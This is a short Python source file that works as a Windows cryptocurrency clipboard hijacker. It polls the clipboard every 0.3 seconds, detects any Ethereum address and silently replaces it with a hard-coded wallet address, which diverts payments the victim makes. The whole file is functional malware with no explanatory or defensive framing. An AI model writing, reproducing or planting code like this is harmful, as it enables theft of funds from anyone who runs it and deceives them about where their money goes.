import ctypes
import re
import time

CF_UNICODETEXT = 13
GMEM_MOVEABLE = 0x0002
ETH = re.compile(r"0x[a-fA-F0-9]{40}")
MINE = "0x1111111111111111111111111111111111111111"


def _get(u, k):
    if not u.OpenClipboard(None):
        return None
    try:
        h = u.GetClipboardData(CF_UNICODETEXT)
        if not h:
            return None
        p = k.GlobalLock(h)
        try:
            return ctypes.wstring_at(p)
        finally:
            k.GlobalUnlock(h)
    finally:
        u.CloseClipboard()


def _set(u, k, text):
    data = ctypes.create_unicode_buffer(text)
    size = ctypes.sizeof(data)
    h = k.GlobalAlloc(GMEM_MOVEABLE, size)
    p = k.GlobalLock(h)
    ctypes.memmove(p, data, size)
    k.GlobalUnlock(h)
    if u.OpenClipboard(None):
        u.EmptyClipboard()
        u.SetClipboardData(CF_UNICODETEXT, h)
        u.CloseClipboard()


def loop():
    u, k = ctypes.windll.user32, ctypes.windll.kernel32
    while True:
        t = _get(u, k)
        if t and ETH.fullmatch(t.strip()) and t.strip() != MINE:
            _set(u, k, MINE)
        time.sleep(0.3)
